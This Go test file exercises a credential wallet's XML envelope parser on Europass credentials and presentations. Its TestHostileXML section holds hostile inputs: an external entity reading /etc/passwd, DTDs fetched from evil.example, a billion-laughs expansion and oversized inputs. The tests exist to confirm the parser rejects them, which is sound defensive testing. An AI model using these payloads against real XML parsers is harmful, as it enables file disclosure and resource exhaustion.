package envelope

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cairnwallet/cairn/verify/fault"
	"github.com/cairnwallet/cairn/verify/testkit"
	"github.com/cairnwallet/cairn/verify/xmlsig"
)

const europassDoc = `<europassCredential xmlns="http://data.europa.eu/snb" xmlns:cred="http://data.europa.eu/europass/model/credentials/w3c#" cred:id="urn:credential:1">` +
	`<cred:validFrom>2021-01-18T18:00:00+01:00</cred:validFrom><cred:issuer idref="urn:epass:org:1"/><cred:issuer idref="urn:epass:org:2"/>` +
	`<title><text lang="en">Welding<!-- --> &amp; more</text><text lang="fr">Soudure</text></title><note/><proof></proof></europassCredential>`

func TestEuropass(t *testing.T) {
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	sealed := testkit.NewSealer(t, "p256", "Example School", at).Seal(t, europassDoc)
	hidden := strings.Replace(sealed, "<note/>", `<Signature xmlns="`+xmlsig.DSig+`"><title>Surgery</title></Signature><note/>`, 1)
	want := map[string]any{
		"@id": "urn:credential:1", "validFrom": "2021-01-18T18:00:00+01:00", "note": "", "proof": "",
		"issuer": []any{map[string]any{"@idref": "urn:epass:org:1"}, map[string]any{"@idref": "urn:epass:org:2"}},
		"title": map[string]any{"text": []any{
			map[string]any{"@lang": "en", "#text": "Welding & more"}, map[string]any{"@lang": "fr", "#text": "Soudure"},
		}},
	}
	for name, c := range map[string]struct {
		in     string
		proofs int
	}{"bare": {europassDoc, 0}, "sealed": {sealed, 1}, "something in another signature": {hidden, 2}} {
		t.Run(name, func(t *testing.T) {
			found, err := Open([]byte(c.in))
			if err != nil || len(found) != 1 {
				t.Fatal(found, err)
			}
			o := found[0]
			if o.Form != "xml" || string(o.Raw) != c.in || string(o.Sealed) != c.in || len(o.Proofs) != c.proofs {
				t.Errorf("%s, %d proofs", o.Form, len(o.Proofs))
			}
			if diff := cmp.Diff(map[string]any{Europass: want}, o.Doc); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			if c.proofs == 1 && (o.Proofs[0].Suite != "xades" || !o.Proofs[0].Created.Equal(at)) {
				t.Errorf("%+v", o.Proofs[0])
			}
		})
	}
}

// TestEuropassShown: a credential that was wrapped to be shared is again the
// document it was, and its seal still holds.
func TestEuropassShown(t *testing.T) {
	s := testkit.NewSealer(t, "p256", "Example School", time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))
	s.Transform = "xpath"
	sealed := s.Seal(t, europassDoc)
	in := `<vp:verifiablePresentation xmlns:vp="http://data.europa.eu/snb/vp" xmlns="x:other"><vp:checks>all fine</vp:checks>` + sealed + sealed + `<vp:proof/></vp:verifiablePresentation>`
	found, err := Open([]byte(in))
	if err != nil || len(found) != 1 || !found[0].Presentation || len(found[0].Inside) != 2 || len(found[0].Proofs) != 0 {
		t.Fatal(found, err)
	}
	for _, o := range found[0].Inside {
		seals, err := xmlsig.Find(o.Sealed)
		if err != nil || len(seals) != 1 {
			t.Fatal(len(seals), err)
		}
		if err := seals[0].Check(s.Key.Public()); err != nil || !seals[0].Whole {
			t.Error(err)
		}
		alone, err := Open(o.Raw)
		if err != nil || len(alone) != 1 || cmp.Diff(alone[0].Doc, o.Doc) != "" {
			t.Error(alone, err)
		}
	}
}

func TestEuropassTooManySignatures(t *testing.T) {
	sig := `<Signature xmlns="` + xmlsig.DSig + `"/>`
	found, err := Open([]byte(strings.Replace(europassDoc, "<note/>", strings.Repeat(sig, 9), 1)))
	if err != nil || len(found) != 1 || len(found[0].Flaws) != 1 || !found[0].Flaws[0].Grave {
		t.Error(found, err)
	}
}

func FuzzEuropass(f *testing.F) {
	f.Add([]byte(europassDoc))
	f.Add([]byte(`<verifiablePresentation>` + europassDoc + `</verifiablePresentation>`))
	f.Add([]byte(testkit.NewSealer(f, "ed25519", "Example School", time.Unix(0, 0)).Seal(f, europassDoc)))
	f.Fuzz(opens)
}

// TestHostileXML: what XML can be made to do to a reader, with what it may cost
// here. Nothing is expanded, so nothing can be looked up either.
func TestHostileXML(t *testing.T) {
	laughs := `<!DOCTYPE lolz [<!ENTITY a "lol">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">`, 10) + `]>`
	for name, c := range map[string]struct {
		in, code string
		kib      uint64
	}{
		"an entity from a file":    {`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><europassCredential>&x;</europassCredential>`, "input.dtd", 64},
		"an entity from the web":   {`<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]><europassCredential/>`, "input.dtd", 64},
		"a document type outside":  {`<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><europassCredential/>`, "input.dtd", 64},
		"a billion laughs":         {laughs + `<europassCredential>&b;</europassCredential>`, "input.dtd", 64},
		"a long comment before it": {"<!--" + strings.Repeat(" ", 1<<20) + "-->" + laughs + `<europassCredential/>`, "input.dtd", 64},
		"an entity without a type": {"<europassCredential>&x;</europassCredential>", "input.not-json", 64},
		"deep":                     {"<europassCredential>" + strings.Repeat("<a>", 1<<20), "input.too-many-parts", 16 << 10},
		"wide":                     {"<europassCredential>" + strings.Repeat("<a/>", 1<<20) + "</europassCredential>", "input.too-many-parts", 160 << 10},
		"many attributes":          {"<europassCredential " + strings.Repeat(`a="" `, 1<<20) + "/>", "input.too-many-parts", 16 << 10},
		"text without an end":      {"<europassCredential>" + strings.Repeat("x", 16<<20), "input.truncated", 64 << 10},
	} {
		t.Run(name, func(t *testing.T) {
			var err error
			used := testkit.Cost(func() { _, err = Open([]byte(c.in)) }) >> 10
			if fault.Code(err) != c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
			if used > c.kib+uint64(len(c.in)>>10) {
				t.Errorf("%d KiB allocated for %d KiB, want at most %d beside", used, len(c.in)>>10, c.kib)
			}
		})
	}
}
